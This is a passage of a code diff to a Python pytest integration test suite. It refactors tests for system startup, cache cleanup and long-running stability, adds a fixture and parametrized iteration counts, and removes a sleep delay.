+            # Error message should be user-friendly, not technical
+            assert not _TECHNICAL_TERMS.search(result["message"])
 
 
 @pytest.mark.integration
 class TestFullSystemIntegration:
     """Full system integration testing"""
     
-    def test_system_startup_and_initialization(self):
+    def test_system_startup_and_initialization(self, health_results):
         """Test system startup and initialization process"""
         # Test configuration loading
         config_valid = validate_configuration()
@@ -602,13 +789,11 @@ class TestFullSystemIntegration:
         assert health_checker is not None
         
         # Test health checks can run
-        health_results = health_checker.run_health_checks()
         assert isinstance(health_results, dict)
     
     def test_system_cleanup_and_shutdown(self):
         """Test system cleanup and shutdown procedures"""
         # Test cache cleanup
-        initial_stats = intelligent_cache.get_stats()
         intelligent_cache.clear()
         final_stats = intelligent_cache.get_stats()
         
@@ -620,13 +805,13 @@ class TestFullSystemIntegration:
         performance_monitor.metrics.clear()
         assert len(performance_monitor.metrics) == 0
     
-    @pytest.mark.slow
-    def test_long_running_stability(self):
+    @pytest.mark.parametrize("iterations", [20, pytest.param(500, marks=pytest.mark.slow)])
+    def test_long_running_stability(self, iterations):
         """Test system stability over extended operation"""
         # Simulate extended usage
         operations = []
         
-        for i in range(50):  # Simulate 50 operations
+        for i in range(iterations):
             try:
                 # Various cache operations
                 cache_key = f"stability_test_{i}"
@@ -641,9 +826,6 @@ class TestFullSystemIntegration:
                     "data_matches": retrieved == test_data if retrieved else False
                 })
                 
-                # Add some processing delay
-                time.sleep(0.01)
-                
             except Exception as e:
                 operations.append({
                     "iteration": i,